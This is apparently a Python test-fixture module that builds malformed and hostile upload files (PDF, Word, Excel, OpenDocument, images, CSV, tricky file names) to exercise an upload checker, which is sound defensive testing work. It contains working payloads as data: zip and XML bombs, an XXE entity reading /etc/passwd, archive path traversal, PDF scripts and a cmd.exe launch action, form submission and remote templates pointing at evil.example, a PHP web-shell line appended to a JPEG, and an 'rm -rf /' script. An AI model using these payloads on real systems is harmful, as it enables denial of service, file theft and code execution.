"""Files as people send them, and as nobody should: every kind that is taken, and every trick that is not.

MALFORMED maps the name of a trick to a function that gives (file name, content). Contents are made when asked for:
some are large.
"""

import io
import random
import re
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, PngImagePlugin

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TEXT_DOCUMENT = "application/vnd.oasis.opendocument.text"
SPREADSHEET = "application/vnd.oasis.opendocument.spreadsheet"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MEGABYTE = 1024 * 1024


# --- PDF ----------------------------------------------------------------------------------------
def pdf(prepare=None, **how):
    stream = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if prepare:
            prepare(document)
        document.save(stream, **how)
    return stream.getvalue()


PACKED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
PLAIN = {"object_stream_mode": pikepdf.ObjectStreamMode.disable}


def action(**entries):
    def prepare(document):
        document.Root.OpenAction = document.make_indirect(pikepdf.Dictionary(**entries))

    return prepare


SCRIPT = action(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def named_script(document):
    SCRIPT(document)
    tree = pikepdf.Dictionary(Names=[pikepdf.String("x"), document.Root.OpenAction])
    del document.Root.OpenAction
    document.Root.Names = pikepdf.Dictionary(JavaScript=document.make_indirect(tree))


def attached(document):
    document.attachments["run.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def catalog(**entries):
    def prepare(document):
        for name, value in entries.items():
            document.Root[f"/{name}"] = value

    return prepare


def raw_pdf(*objects, behind=b""):
    """A PDF of objects as they are; the first is the catalogue."""
    out, offsets = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(out)
    size = len(offsets) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Root 1 0 R /Size %d>>\n" % (size, table, size)
    return out + behind + b"startxref\n%d\n%%%%EOF\n" % start


PAGES = (
    b"<</Type /Catalog /Pages 2 0 R>>",
    b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
    b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>>",
)


def packed_object(content, head=b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"):
    body = zlib.compress(content, 9)
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (head, len(body), body)


def encrypted(user):
    return pdf(encryption=pikepdf.Encryption(owner="secret", user=user))


# --- Pictures -----------------------------------------------------------------------------------
def picture(kind, size=(30, 20), mode="RGB", **how):
    stream = io.BytesIO()
    Image.new(mode, size, "navy" if mode == "RGB" else 1).save(stream, kind, **how)
    return stream.getvalue()


def noise(size=(64, 48)):
    return Image.frombytes("RGB", size, random.Random(5).randbytes(size[0] * size[1] * 3))


def photo(kind, **how):
    stream = io.BytesIO()
    noise().save(stream, kind, **how)
    return stream.getvalue()


def moving_png():
    stream = io.BytesIO()
    frames = [Image.new("RGB", (30, 20), colour) for colour in ("navy", "white", "red")]
    frames[0].save(stream, "PNG", save_all=True, append_images=frames[1:], duration=100)
    return stream.getvalue()


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width=30, height=20, rows=b"", more=b"", mode=2):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, mode, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def text_bomb():
    packed = zlib.compress(b"0" * 100 * MEGABYTE, 9)
    return png(rows=b"\0" * 20 * 91, more=chunk(b"zTXt", b"Comment\0\0" + packed) * 3)


def telling_jpeg():
    """A photograph lying on its side, with a place, a comment, a profile and a script behind its end."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = "Home of the owner"
    exif.get_ifd(0x8825)[1] = "N"
    more = {"exif": exif, "comment": b"Made by the owner", "icc_profile": b"owner's profile" * 20}
    return photo("JPEG", **more) + b"<?php system($_GET['owner']); ?>" + EICAR


# --- Office files -------------------------------------------------------------------------------
def archive(parts, method=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as file:
        for name, content in parts.items():
            file.writestr(name if isinstance(name, zipfile.ZipInfo) else info(name, method), content)
    return stream.getvalue()


def info(name, method):
    """A part whose name is written as it is: the library would mend it."""
    entry = zipfile.ZipInfo("x")
    entry.filename, entry.compress_type = name, method
    return entry


def types(main, part):
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{part}" ContentType="{main}"/></Types>'
    )


def relations(*rows):
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="r{number}" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'
            for number, (kind, target, mode) in enumerate(rows)
        )
        + "</Relationships>"
    )


OUTSIDE = ' TargetMode="External"'


def word_parts(more=None, main=f"{WORD}.main+xml"):
    return {
        "[Content_Types].xml": types(main, "/word/document.xml"),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": '<w:document xmlns:w="urn:w"><w:body><w:p>Our quote</w:p></w:body></w:document>',
        **(more or {}),
    }


def docx(more=None, **how):
    return archive(word_parts(more), **how)


def xlsx(more=None):
    parts = {
        "[Content_Types].xml": types(f"{SHEET}.main+xml", "/xl/workbook.xml"),
        "xl/workbook.xml": "<workbook/>",
        "xl/printerSettings/printerSettings1.bin": b"\0printer",
    }
    return archive({**parts, **(more or {})})


def open_document(mimetype, more=None):
    parts = {
        info("mimetype", zipfile.ZIP_STORED): mimetype,
        "content.xml": (
            '<o:document-content xmlns:o="urn:o" xmlns:text="urn:text" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<text:a xlink:href="https://firm.example/">Our page</text:a></o:document-content>'
        ),
        "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:m"/>',
    }
    return archive({**parts, **(more or {})})


def image_from(target):
    return (
        '<o:document-content xmlns:o="urn:o" xmlns:draw="urn:draw" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<draw:image xlink:href="{target}"/></o:document-content>'
    )


def bomb(size=10 * 1024 * MEGABYTE, parts=64):
    """Parts of zeros that say how large they are; packed once and named again, so that making it is quick."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    each, zeros, packed, total = size // parts, b"\0" * MEGABYTE, [], 0
    for _ in range(each // MEGABYTE):
        packed.append(packer.compress(zeros))
        total = zlib.crc32(zeros, total)
    body = b"".join(packed) + packer.flush()
    return hand_made([(f"word/media/{number}.emf".encode(), body, each, total) for number in range(parts)])


def hand_made(entries, overlap=False):
    """A ZIP of (name, packed, size, sum), told to be so; with `overlap` all lie in one place."""
    out, table, place = bytearray(), bytearray(), 0
    for number, (name, packed, size, check) in enumerate(entries):
        if not (overlap and number):
            place = len(out)
            head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, check, len(packed), size, len(name), 0)
            out += head + name + packed
        table += struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, check, len(packed), size, len(name), 0, 0, 0, 0, 0, place
        )
        table += name
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, len(entries) & 0xFFFF, len(entries) & 0xFFFF, len(table), len(out), 0
    )
    return bytes(out + table + end)


def deflated(content):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def overlapping():
    content = b"0" * 4 * MEGABYTE
    packed, check = deflated(content), zlib.crc32(content)
    return hand_made([(b"word/%d.xml" % n, packed, len(content), check) for n in range(1500)], overlap=True)


def lying(size):
    """A part that says it is another size than it is."""
    content = bytearray(docx({"word/large.bin": b"0" * 5 * MEGABYTE}))
    said = struct.pack("<I", 5 * MEGABYTE)
    while said in content:
        place = content.index(said)
        content[place : place + 4] = struct.pack("<I", size)
    return bytes(content)


def laughs():
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE l [<!ENTITY l0 "lol">{entities}]><l>&l9;</l>'


def matryoshka():
    inner = archive({"0.bin": b"\0" * 50 * MEGABYTE})
    for level in range(4):
        inner = archive({f"{level}-{n}.zip": inner for n in range(8)})
    return inner


def changed(content, old, new):
    assert old in content
    return content.replace(old, new)


def damaged(content, start=0.3, end=0.7):
    middle = bytearray(content)
    first, last = int(len(middle) * start), int(len(middle) * end)
    middle[first:last] = random.Random(7).randbytes(last - first)
    return bytes(middle)


def half(content):
    return content[: len(content) // 2]


CSV = "Item;Net;Note\r\nRobot;30000;Six axes – with gripper\r\n".encode()
GOOD = {
    "plan.pdf": pdf(**PLAIN),
    "packed.pdf": pdf(**PACKED),
    "letter.docx": docx({"word/_rels/document.xml.rels": relations(("hyperlink", "https://firm.example/", OUTSIDE))}),
    "costs.xlsx": xlsx(),
    "letter.odt": open_document(TEXT_DOCUMENT),
    "costs.ods": open_document(SPREADSHEET),
    "costs.csv": CSV,
    "machine.png": photo("PNG"),
    "machine.jpg": photo("JPEG"),
    "machine.jpeg": picture("JPEG"),
    "LOUD.PDF": pdf(**PACKED),
}

MALFORMED = {
    # PDF
    "half a PDF": lambda: ("plan.pdf", half(pdf())),
    "PDF of nothing but its start": lambda: ("plan.pdf", b"%PDF-1.7\n"),
    "PDF of nothing but start and end": lambda: (
        "plan.pdf",
        b"%PDF-1.7\n" + random.Random(1).randbytes(900) + b"%%EOF",
    ),
    "PDF without its end": lambda: ("plan.pdf", pdf().removesuffix(b"%%EOF\n")),
    "PDF whose end points nowhere": lambda: ("plan.pdf", re.sub(rb"startxref\n\d+", b"startxref\n7", pdf())),
    "PDF whose end points behind it": lambda: ("plan.pdf", re.sub(rb"startxref\n\d+", b"startxref\n999999999", pdf())),
    "PDF without a page": lambda: ("plan.pdf", raw_pdf(b"<</Type /Catalog>>")),
    "PDF with its middle overwritten": lambda: ("plan.pdf", damaged(pdf(**PLAIN), 0.05, 0.95)),
    "PDF with a password": lambda: ("plan.pdf", encrypted("secret")),
    "PDF locked for its owner": lambda: ("plan.pdf", encrypted("")),
    "PDF with a script": lambda: ("plan.pdf", pdf(SCRIPT, **PLAIN)),
    "PDF with a named script": lambda: ("plan.pdf", pdf(named_script, **PLAIN)),
    "PDF with a script in an object stream": lambda: ("plan.pdf", pdf(SCRIPT, **PACKED)),
    "PDF with a script in a stream that hides what it is": lambda: (
        "plan.pdf",
        raw_pdf(*PAGES, packed_object(b"9 0  <</S /JavaScript /JS (app.alert(1))>>", b"/T 1 /Filter /FlateDecode")),
    ),
    "PDF with a script packed in an unusual way": lambda: (
        "plan.pdf",
        raw_pdf(
            *PAGES, b"<</Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]>>\nstream\n78\nendstream"
        ),
    ),
    "PDF with a script whose name is escaped": lambda: (
        "plan.pdf",
        raw_pdf(*PAGES, b"<</S /J#61va#53cript /JS (app.alert(1))>>"),
    ),
    "PDF that starts a program": lambda: (
        "plan.pdf",
        pdf(action(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")), **PLAIN),
    ),
    "PDF that sends what is typed": lambda: (
        "plan.pdf",
        pdf(action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example")), **PACKED),
    ),
    "PDF with a file in it": lambda: ("plan.pdf", pdf(attached, **PLAIN)),
    "PDF with a file in it, packed": lambda: ("plan.pdf", pdf(attached, **PACKED)),
    "PDF with a film": lambda: (
        "plan.pdf",
        raw_pdf(*PAGES, b"<</Type /Annot /Subtype /RichMedia>>"),
    ),
    "PDF with a form of its own": lambda: ("plan.pdf", pdf(catalog(AcroForm=pikepdf.Dictionary(XFA=[])), **PLAIN)),
    "PDF with a ZIP behind it": lambda: ("plan.pdf", pdf() + docx()),
    "PDF with a ZIP in it": lambda: (
        "plan.pdf",
        raw_pdf(*PAGES, behind=b"%" + docx()[:-2] + struct.pack("<H", 30)),
    ),
    "PDF with much behind it": lambda: ("plan.pdf", pdf() + b"0" * 5000),
    "PDF behind a program": lambda: ("plan.pdf", b"MZ\x90\0" * 20 + pdf()),
    "PDF behind a page": lambda: ("plan.pdf", b"<html><script>alert(1)</script></html>\n" + pdf()),
    "PDF with a bomb in it": lambda: (
        "plan.pdf",
        raw_pdf(*PAGES, packed_object(b"9 0 " + b"<</A 1>>" * 25 * MEGABYTE)),
    ),
    "PDF of very many streams": lambda: ("plan.pdf", raw_pdf(*PAGES, b"<<>>stream\n" * 900_000)),
    "PDF of very many packed streams": lambda: (
        "plan.pdf",
        raw_pdf(*PAGES, (b"<<>>stream\n" + zlib.compress(b"1 0 " + b" " * 60_000, 9)) * 45_000),
    ),
    "program called PDF": lambda: ("plan.pdf", b"MZ\x90\0" * 500),
    "page called PDF": lambda: ("plan.pdf", b"<!DOCTYPE html><script>alert(1)</script>"),
    "noise called PDF": lambda: ("plan.pdf", random.Random(2).randbytes(5000)),
    # Office files
    "half a Word file": lambda: ("letter.docx", half(docx())),
    "Word file with its middle overwritten": lambda: ("letter.docx", damaged(docx())),
    "Word file of nothing but its start": lambda: ("letter.docx", b"PK\x03\x04"),
    "empty archive": lambda: ("letter.docx", archive({})),
    "zip bomb": lambda: ("letter.docx", bomb()),
    "zip bomb of one part": lambda: ("letter.docx", docx({"word/media/a.emf": b"\0" * 150 * MEGABYTE})),
    "nested zip bomb": lambda: ("letter.docx", docx({"word/embeddings/a.zip": matryoshka()})),
    "nested zip bomb as a chart's sheet": lambda: (
        "letter.docx",
        docx({"word/embeddings/a.xlsx": xlsx({"xl/media/a.emf": b"\0" * 60 * MEGABYTE})}),
    ),
    "sheet in a sheet in a letter": lambda: (
        "letter.docx",
        docx({"word/embeddings/a.xlsx": xlsx({"xl/embeddings/b.xlsx": xlsx()})}),
    ),
    "overlapping parts": lambda: ("letter.docx", overlapping()),
    "100,000 parts": lambda: ("letter.docx", hand_made([(b"%06d" % n, b"\3\0", 0, 0) for n in range(100_000)])),
    "3,000 parts": lambda: ("letter.docx", docx({f"word/{number}.xml": "<x/>" for number in range(3000)})),
    "part above the folder": lambda: ("letter.docx", docx({"../../etc/cron.d/x": "x"})),
    "part above the folder, later": lambda: ("letter.docx", docx({"word/../../x": "x"})),
    "part at the root": lambda: ("letter.docx", docx({"/etc/passwd": "x"})),
    "part with backslashes": lambda: ("letter.docx", docx({"..\\..\\windows\\x": "x"})),
    "part on a drive": lambda: ("letter.docx", docx({"C:/windows/x": "x"})),
    "two parts of one name": lambda: (
        "letter.docx",
        archive({**word_parts(), info("word/document.xml", zipfile.ZIP_DEFLATED): "<other/>"}),
    ),
    "part smaller than it says": lambda: ("letter.docx", lying(50 * MEGABYTE)),
    "part larger than it says": lambda: ("letter.docx", lying(10)),
    "part whose sum is wrong": lambda: (
        "letter.docx",
        changed(docx(method=zipfile.ZIP_STORED), b"Our quote", b"Our quota"),
    ),
    "part with a password": lambda: ("letter.docx", locked_part()),
    "part of an unusual packing": lambda: ("letter.docx", docx(method=zipfile.ZIP_BZIP2)),
    "archive with something in front": lambda: ("letter.docx", b"#!/bin/sh\nexit\n" + docx()),
    "archive behind an archive": lambda: ("letter.docx", archive({"run.exe": "MZ"}) + docx()),
    "archive with something behind": lambda: ("letter.docx", docx() + b"<script>alert(1)</script>" * 3),
    "archive behind a PDF": lambda: ("letter.docx", pdf() + docx()),
    "PDF in the archive's first part": lambda: (
        "letter.docx",
        archive({info("a.bin", zipfile.ZIP_STORED): pdf(), **word_parts()}),
    ),
    "archive with a second table": lambda: ("letter.docx", second_table()),
    "Word file with macros": lambda: ("letter.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"})),
    "Excel file with macros": lambda: ("costs.xlsx", xlsx({"xl/VBAProject.BIN": b"\xd0\xcf"})),
    "Excel file with old macros": lambda: ("costs.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"})),
    "macro-enabled Word file by another name": lambda: (
        "letter.docx",
        archive(word_parts(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
    ),
    "OpenDocument with macros": lambda: (
        "letter.odt",
        open_document(TEXT_DOCUMENT, {"Basic/Standard/Module1.xml": "<x/>"}),
    ),
    "Word file with a template from elsewhere": lambda: (
        "letter.docx",
        docx({"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/a.dotm", OUTSIDE))}),
    ),
    "Word file with a picture from elsewhere": lambda: (
        "letter.docx",
        docx({"word/_rels/document.xml.rels": relations(("image", r"\\evil.example\a.png", OUTSIDE))}),
    ),
    "Excel file with a table from elsewhere": lambda: (
        "costs.xlsx",
        xlsx({"xl/externalLinks/_rels/a.xml.rels": relations(("externalLinkPath", "https://evil.example/", OUTSIDE))}),
    ),
    "OpenDocument with a picture from elsewhere": lambda: (
        "letter.odt",
        open_document(TEXT_DOCUMENT, {"content.xml": image_from("https://evil.example/a.png")}),
    ),
    "OpenDocument with a picture from the network": lambda: (
        "costs.ods",
        open_document(SPREADSHEET, {"content.xml": image_from("//evil.example/a.png")}),
    ),
    "Word file with an embedded object": lambda: ("letter.docx", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf"})),
    "Word file with a program": lambda: ("letter.docx", docx({"word/media/run.exe": b"MZ"})),
    "Word file with a program called a picture": lambda: ("letter.docx", docx({"word/media/a.png": b"MZ\x90"})),
    "Word file with a button that runs": lambda: ("letter.docx", docx({"word/activeX/activeX1.xml": "<x/>"})),
    "billion laughs": lambda: ("letter.docx", docx({"word/comments.xml": laughs()})),
    "billion laughs in a table": lambda: ("costs.xlsx", xlsx({"xl/sharedStrings.xml": laughs()})),
    "XML that asks for a file": lambda: (
        "letter.docx",
        docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}),
    ),
    "XML that is not": lambda: ("letter.docx", docx({"word/styles.xml": "<a><b></a>"})),
    "XML cut short": lambda: ("letter.docx", docx({"word/styles.xml": "<a><b>"})),
    "XML very deep": lambda: ("letter.docx", docx({"word/a.xml": "<a>" * 1000 + "</a>" * 1000})),
    "XML of very many elements": lambda: (
        "letter.docx",
        docx({"word/a.xml": "<a>" + "<b/>" * 8_000_000, "word/b.bin": random.Random(3).randbytes(2 * MEGABYTE)}),
    ),
    "XML of one very long text": lambda: (
        "letter.docx",
        docx(
            {
                "word/a.xml": '<a b="' + "0" * 180 * MEGABYTE + '"/>',
                "word/b.bin": random.Random(3).randbytes(2 * MEGABYTE),
            }
        ),
    ),
    "XML in letters of its own": lambda: (
        "letter.docx",
        docx({"word/a.xml": '<?xml version="1.0" encoding="utf-7"?><a/>'}),
    ),
    "Word file called Excel": lambda: ("costs.xlsx", docx()),
    "Excel file called Word": lambda: ("letter.docx", xlsx()),
    "OpenDocument of the other kind": lambda: ("letter.odt", open_document(SPREADSHEET)),
    "OpenDocument without content": lambda: ("letter.odt", archive({"mimetype": TEXT_DOCUMENT})),
    "OpenDocument with a password": lambda: (
        "letter.odt",
        open_document(
            TEXT_DOCUMENT, {"META-INF/manifest.xml": '<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>'}
        ),
    ),
    "plain archive called Word": lambda: ("letter.docx", archive({"hello.txt": "hello"})),
    "Java archive called Word": lambda: ("letter.docx", archive({"META-INF/MANIFEST.MF": "Main-Class: x"})),
    "old Word file, or one with a password": lambda: (
        "letter.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000,
    ),
    "Word file whose main part is missing": lambda: (
        "letter.docx",
        archive({"[Content_Types].xml": types(f"{WORD}.main+xml", "/word/gone.xml")}),
    ),
    # Pictures
    "PNG of 60,000 by 60,000": lambda: ("machine.png", png(60_000, 60_000)),
    "PNG of 8,000 by 5,001": lambda: ("machine.png", png(8_000, 5_001)),
    "PNG of 0 by 0": lambda: ("machine.png", png(0, 0)),
    "PNG with a huge chunk": lambda: (
        "machine.png",
        png()[:33] + struct.pack(">I", 0x7FFFFFFF) + b"tEXt" + b"0" * 100_000,
    ),
    "PNG with packed text that is a bomb": lambda: ("machine.png", text_bomb()),
    "half a PNG": lambda: ("machine.png", half(photo("PNG"))),
    "PNG with its middle overwritten": lambda: ("machine.png", damaged(photo("PNG"))),
    "PNG without pixels": lambda: ("machine.png", png()),
    "PNG of nothing but its start": lambda: ("machine.png", b"\x89PNG\r\n\x1a\n"),
    "moving PNG": lambda: ("machine.png", moving_png()),
    "GIF called PNG": lambda: ("machine.png", picture("GIF")),
    "JPEG called PNG": lambda: ("machine.png", picture("JPEG")),
    "drawing with a script called PNG": lambda: (
        "machine.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    "half a JPEG": lambda: ("machine.jpg", half(photo("JPEG"))),
    "JPEG with its start overwritten": lambda: ("machine.jpg", damaged(photo("JPEG"), 0.005, 0.15)),
    "JPEG of nothing but its start": lambda: ("machine.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0"),
    "JPEG of 65,000 by 65,000": lambda: ("machine.jpg", large_jpeg()),
    "TIFF called JPEG": lambda: ("machine.jpg", picture("TIFF")),
    "page called JPEG": lambda: ("machine.jpeg", b"<html><script>alert(1)</script></html>"),
    "program behind a JPEG's first bytes": lambda: ("machine.jpg", b"\xff\xd8\xff" + b"MZ\x90\0" * 500),
    # Tables
    "CSV with a zero byte": lambda: ("costs.csv", CSV + b"a\0b\r\n"),
    "CSV in UTF-16": lambda: ("costs.csv", CSV.decode().encode("utf-16")),
    "CSV in UTF-16 without its mark": lambda: ("costs.csv", CSV.decode().encode("utf-16-le")),
    "CSV with control characters": lambda: ("costs.csv", CSV + b"\x1b[2J\r\n"),
    "CSV with a quote that never ends": lambda: ("costs.csv", b'Item,Net\r\n"Robot,30000\r\n'),
    "CSV with a cell of a megabyte": lambda: ("costs.csv", b"Item,Net\r\n" + b"x" * MEGABYTE + b",1\r\n"),
    "CSV of white space": lambda: ("costs.csv", b"\r\n \r\n"),
    "noise called CSV": lambda: ("costs.csv", random.Random(4).randbytes(5000)),
    "letters that are none called CSV": lambda: ("costs.csv", b"Item,Net\r\n\x81\x8d,1\r\n"),
    "page called CSV": lambda: ("costs.csv", b"<html><script>alert(1)</script></html>"),
    "program text called CSV": lambda: ("costs.csv", b"#!/bin/sh\nrm -rf /\n"),
    "PDF called CSV": lambda: ("costs.csv", pdf()),
    "Word file called CSV": lambda: ("costs.csv", docx()),
    # Names
    "program with two endings": lambda: ("quote.pdf.exe", b"MZ\x90"),
    "script with two endings": lambda: ("quote.docx.js", docx()),
    "program that reads backwards": lambda: ("quote\u202efdp.exe", b"MZ\x90"),
    "wrong content in mixed case": lambda: ("quote.PdF", b"MZ\x90"),
    "name of 255 characters": lambda: ("q" * 251 + ".pdf", pdf()),
    "name of a device": lambda: ("CON.pdf", pdf()),
    "name of a device with two endings": lambda: ("com1.old.pdf", pdf()),
    "no ending": lambda: ("quote", pdf()),
    "nothing but an ending": lambda: (".pdf", pdf()),
    "ending with a stream": lambda: ("quote.pdf::$DATA", pdf()),
    "ending with a dot": lambda: ("quote.pdf.", pdf()),
    "path up the tree": lambda: ("../../../etc/passwd", b"root:x:0:0"),
    "macro-enabled Word file": lambda: ("letter.docm", docx({"word/vbaProject.bin": b"\xd0\xcf"})),
    "macro-enabled Excel file": lambda: ("costs.xlsm", xlsx({"xl/vbaProject.bin": b"\xd0\xcf"})),
    "Word file of old": lambda: ("letter.doc", b"\xd0\xcf\x11\xe0"),
    "drawing": lambda: ("logo.svg", b"<svg/>"),
    "page": lambda: ("page.html", b"<html/>"),
    "archive": lambda: ("quotes.zip", docx()),
    "file of 10 MB and one byte": lambda: ("plan.pdf", b"%PDF-1.7\n".ljust(10 * MEGABYTE + 1, b"0")),
    **{f"empty {name}": lambda name=name: (name, b"") for name in GOOD},
}


def locked_part():
    content = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = content.index(mark)
        content[start + place] |= 1
    return bytes(content)


def second_table():
    """An archive with the large format's table in front of its own, which readers may believe instead."""
    content = docx()
    body, end = content[:-22], bytearray(content[-22:])
    length, offset = struct.unpack("<II", end[12:20])
    record = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1, 1, 46, 0)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(body), 1)
    end[12:20] = struct.pack("<II", length + len(record) + len(locator), offset)
    return body + record + locator + bytes(end)


def large_jpeg():
    content = bytearray(picture("JPEG"))
    place = content.index(b"\xff\xc0") + 5
    content[place : place + 4] = struct.pack(">HH", 65_000, 65_000)
    return bytes(content)


def infected():
    """The test file of the makers of scanners, inside a good file of every kind that keeps it."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", EICAR.decode())
    return {
        "plan.pdf": raw_pdf(*PAGES, b"<</Length %d>>\nstream\n%s\nendstream" % (len(EICAR), EICAR)),
        "letter.docx": docx({"word/media/image1.emf": EICAR}),
        "costs.xlsx": xlsx({"xl/media/image1.emf": EICAR}),
        "letter.odt": open_document(TEXT_DOCUMENT, {"Pictures/1.emf": EICAR}),
        "costs.ods": open_document(SPREADSHEET, {"Pictures/1.emf": EICAR}),
        "costs.csv": EICAR,
    }
